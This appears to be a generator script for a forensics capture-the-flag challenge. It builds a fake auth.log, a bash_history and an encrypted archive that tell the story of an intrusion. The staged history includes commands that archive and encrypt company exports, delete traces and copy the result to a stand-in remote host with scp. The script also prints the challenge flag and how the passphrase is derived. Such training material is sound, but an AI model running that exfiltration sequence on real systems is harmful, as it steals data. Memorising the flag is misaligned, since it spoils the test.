# Generates files/auth.log, files/bash_history and files/x.bin (run once).
# The intruder encrypted an archive with the passphrase "$(hostname)-$(date +%s)"; auth.log brackets
# the moment to within a minute.
import datetime, gzip, io, os, random, subprocess, tarfile
FLAG = "flag{timestamps_tell_tales_c9ace143417852d0}"
rng = random.Random(1414)
HOST = "gw01"
TZ = datetime.timezone(datetime.timedelta(hours=1))
def ts(h, m, s): return datetime.datetime(2024, 3, 14, h, m, s, rng.randrange(1000000), tzinfo=TZ)
T_ENC = datetime.datetime(2024, 3, 14, 9, 42, 51, tzinfo=TZ)
PASS = f"{HOST}-{int(T_ENC.timestamp())}"
buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tf:
    for name, txt in [("exports/customers.csv", "id,name,plan\n" + "".join(f"{i},customer{i:03d},{rng.choice(['basic','pro','team'])}\n" for i in range(40))),
                      ("exports/README.txt", f"Quarterly export. Integrity token: {FLAG}\n")]:
        ti = tarfile.TarInfo(name); ti.size = len(txt); ti.mtime = 1710405000; ti.mode = 0o640
        tf.addfile(ti, io.BytesIO(txt.encode()))
tgz = gzip.compress(buf.getvalue(), mtime=0)
SALT = "5c0ffee15bad1dea"
enc = subprocess.run(["openssl", "enc", "-aes-256-cbc", "-pbkdf2", "-S", SALT, "-pass", "pass:" + PASS],
                     input=tgz, capture_output=True, check=True).stdout
if not enc.startswith(b"Salted__"): enc = b"Salted__" + bytes.fromhex(SALT) + enc
events = []
def log(t, prog, msg): events.append((t, f"{t.isoformat(timespec='microseconds')} {HOST} {prog}: {msg}"))
# background noise: cron, failed ssh guesses
for h in range(6, 12):
    for m in (5, 17, 30, 45):
        t = ts(h, m, 1); pid = rng.randrange(2000, 9000)
        log(t, f"CRON[{pid}]", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")
        log(t + datetime.timedelta(seconds=1), f"CRON[{pid}]", "pam_unix(cron:session): session closed for user root")
for _ in range(60):
    t = ts(rng.randrange(6, 12), rng.randrange(60), rng.randrange(60)); pid = rng.randrange(2000, 9000)
    ip = f"{rng.randrange(20, 220)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
    user = rng.choice(["admin", "test", "oracle", "ubuntu", "pi", "git", "root"])
    log(t, f"sshd[{pid}]", f"Failed password for {'invalid user ' if user != 'root' else ''}{user} from {ip} port {rng.randrange(30000, 65000)} ssh2")
# the intrusion
pid, ip = 24117, "203.0.113.77"
log(ts(9, 40, 12), f"sshd[{pid}]", f"Accepted publickey for deploy from {ip} port 50122 ssh2: ED25519 SHA256:Qm9ndXNLZXlGb3JUaGVQdXp6bGUxMjM0NTY3ODk")
log(ts(9, 40, 12), f"sshd[{pid}]", "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)")
log(ts(9, 40, 13), "systemd-logind[412]", "New session 87 of user deploy.")
log(datetime.datetime(2024, 3, 14, 9, 42, 17, 402311, tzinfo=TZ), "sudo", "  deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/tar czf /tmp/.x.tgz -C /srv exports")
log(datetime.datetime(2024, 3, 14, 9, 42, 17, 403920, tzinfo=TZ), "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1001)")
log(datetime.datetime(2024, 3, 14, 9, 42, 18, 118007, tzinfo=TZ), "sudo", "pam_unix(sudo:session): session closed for user root")
log(datetime.datetime(2024, 3, 14, 9, 43, 30, 8841, tzinfo=TZ), "sudo", "  deploy : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/rm -f /tmp/.x.tgz")
log(datetime.datetime(2024, 3, 14, 9, 43, 30, 10022, tzinfo=TZ), "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1001)")
log(datetime.datetime(2024, 3, 14, 9, 43, 30, 31975, tzinfo=TZ), "sudo", "pam_unix(sudo:session): session closed for user root")
log(ts(9, 44, 2), f"sshd[{pid}]", f"Received disconnect from {ip} port 50122:11: disconnected by user")
log(ts(9, 44, 2), f"sshd[{pid}]", "pam_unix(sshd:session): session closed for user deploy")
log(ts(9, 44, 3), "systemd-logind[412]", "Session 87 logged out. Waiting for processes to exit.")
events.sort()
history = """ls -la
cat /etc/hostname
ls -la /srv/exports
sudo tar czf /tmp/.x.tgz -C /srv exports
cd /tmp
ls -la .x.tgz
export K="$(hostname)-$(date +%s)"
openssl enc -aes-256-cbc -pbkdf2 -pass env:K -in /tmp/.x.tgz -out /tmp/x.bin
unset K
sudo rm -f /tmp/.x.tgz
scp /tmp/x.bin drop@203.0.113.77:incoming/
exit
"""
d = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "files")
open(os.path.join(d, "auth.log"), "w").write("\n".join(e[1] for e in events) + "\n")
open(os.path.join(d, "bash_history"), "w").write(history)
open(os.path.join(d, "x.bin"), "wb").write(enc)
